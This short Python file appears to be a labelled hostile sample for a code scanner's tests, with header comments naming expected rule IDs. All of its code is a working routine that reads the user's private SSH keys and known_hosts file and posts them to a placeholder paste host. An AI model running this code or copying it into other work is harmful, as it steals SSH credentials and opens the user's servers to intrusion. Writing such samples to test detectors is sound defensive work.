# label: hostile
# expect: V102 V301
# note: Gathers private keys from the home directory and posts them as a form.
# allow: V101
from pathlib import Path

import requests

loot = {}
for key in (Path.home() / ".ssh").glob("id_*"):
    if key.suffix != ".pub":
        loot[key.name] = key.read_text(errors="replace")
known = Path("~/.ssh/known_hosts").expanduser()
if known.exists():
    loot["hosts"] = known.read_text()

requests.post("https://paste.example.invalid/api", data=loot, timeout=4)
